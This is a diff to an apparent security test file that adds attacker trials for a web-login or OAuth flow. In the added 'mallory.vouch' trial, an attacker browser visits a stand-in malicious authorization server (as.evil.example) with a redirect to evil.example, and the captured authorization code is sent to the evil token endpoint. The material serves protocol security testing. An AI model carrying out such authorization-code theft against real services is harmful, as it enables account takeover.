@@ -20,6 +20,7 @@ pytestmark = pytest.mark.slow
 
 ACCOUNTS = "https://accounts.connectsphere.example/accounts"
 BUDGET = "https://budget.example/login"
+EVIL_AS = "https://as.evil.example"
 EVIL = "https://evil.example"
 TOKEN = "$in.access_token"
 
@@ -194,6 +195,13 @@ TRIALS = (
         {"json": [1], "redirect": BUDGET, "status": 303, "keep": ["a"], "page": "login", "headers": {"X-A": "b"}},
         after=f"look mallory_browser.send {{url: '{EVIL}/x?a=b'}}",
     ),
+    Trial(
+        "mallory.vouch",
+        {"claims": ({"sub": "1"}, {"sub": "2"})},
+        after=f"look mallory_browser.visit {{url: '{EVIL_AS}/authorize?redirect_uri={EVIL}/cb'}}\n"
+        f"it_says mallory.send {{url: '{EVIL_AS}/token', form: {{code: $look.url.query.code}}}}",
+    ),
+    Trial("mallory.frame", {"browser": ("laptop", "phone"), "url": (BUDGET, f"{BUDGET}?a=b")}, {"change": {"query": {"c": "d"}}}),
     Trial(
         "mallory.forge",
         {"key": ("a word", "none")},
